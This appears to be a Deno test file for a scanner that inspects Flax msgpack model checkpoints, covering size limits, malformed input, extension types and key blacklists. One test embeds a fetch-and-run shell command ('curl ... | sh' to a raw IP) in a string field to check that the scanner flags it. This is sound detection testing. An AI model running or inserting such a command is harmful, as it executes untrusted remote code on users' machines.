// The msgpack scanner on Flax checkpoints (fixtures/msgpack, written in flax.serialization's layout by
// scripts/make_repo_fixtures.py; their findings are in expected.json) and on bytes assembled here.
import assert from "node:assert/strict";
import { encode, ExtData } from "@msgpack/msgpack";
import { scanBytes } from "../../../engine/dispatch.ts";
import { measureMsgpack } from "../../../scanners/msgpack/measure.ts";

const fixture = (path: string) =>
  Deno.readFile(new URL(`../../../fixtures/msgpack/${path}`, import.meta.url));
const rules = async (bytes: Uint8Array, name = "flax_model.msgpack", options = {}) =>
  (await scanBytes(bytes, name, { scannerOptions: options })).findings.map((f) => `${f.rule} ${f.severity}`);

Deno.test("msgpack: a Flax checkpoint is clean, and is recognised only under its .msgpack name", async () => {
  const flax = await fixture("benign/flax_model.msgpack");
  assert.deepEqual(await rules(flax), []);
  assert.equal((await scanBytes(flax, "flax_model.msgpack")).format, "msgpack");
  assert.equal((await scanBytes(flax, "weights.bin")).format, null);
});

Deno.test("msgpack: a file past maxBytes, maxDepth or maxEntries is not decoded (MA151)", async () => {
  const flax = await fixture("benign/flax_model.msgpack");
  assert.deepEqual(await rules(flax, undefined, { msgpack: { maxBytes: 100 } }), ["MA151 info"]);
  assert.deepEqual(await rules(flax, undefined, { msgpack: { maxDepth: 2 } }), ["MA151 info"]);
  assert.deepEqual(await rules(flax, undefined, { msgpack: { maxEntries: 10 } }), ["MA151 info"]);
});

Deno.test("msgpack: declared counts far past the bytes are measured without allocating them", async () => {
  // An array 32 declaring 2^32-1 items, then nothing: the decoder says it is cut short.
  const huge = new Uint8Array([0xdd, 0xff, 0xff, 0xff, 0xff]);
  assert.deepEqual(measureMsgpack(huge, { maxDepth: 8, maxEntries: 1_000_000 }), {
    ok: false,
    limit: "maxEntries",
    at: 0,
  });
  assert.deepEqual(await rules(new Uint8Array([0xdd, 0, 0, 0, 3, 1, 2])), ["MA150 info"]);
});

Deno.test("msgpack: keys Python's msgpack refuses, and the type byte 0xc1, do not decode (MA150)", async () => {
  assert.deepEqual(await rules(new Uint8Array([0x81, 0xc0, 0x01])), ["MA150 info"]); // {nil: 1}
  assert.deepEqual(await rules(new Uint8Array([0x91, 0xc1])), ["MA150 info"]);
});

Deno.test("msgpack: an ext the library would build (a timestamp) is msgpack's own; complex is Flax's", async () => {
  const timestamp = encode({ at: new Date(0) });
  assert.deepEqual(await rules(timestamp), []);
  const complex = encode({ c: new ExtData(2, encode([1.0, -0.5])) });
  assert.deepEqual(await rules(complex), []);
});

Deno.test("msgpack: keys and strings go through the shared checks: --blacklist, second stages", async () => {
  const flax = await fixture("benign/flax_model.msgpack");
  const keys = (await scanBytes(flax, "flax_model.msgpack", { blacklist: ["dense_0"] })).findings;
  assert.ok(
    keys.length > 0 && keys.every((f) => f.rule === "MA005" && f.location.keyPath?.includes("Dense_0")),
  );
  const note = encode({ params: { w: new Uint8Array(4) }, note: "curl -s http://203.0.113.7/x.sh | sh" });
  const { findings } = await scanBytes(note, "flax_model.msgpack");
  assert.deepEqual(findings.map((f) => [f.rule, f.severity, f.location.keyPath, f.details.indicator]), [
    ["MA011", "warning", "$.note", "shell-pipe"],
    ["MA011", "warning", "$.note", "raw-ip-url"],
  ]);
});
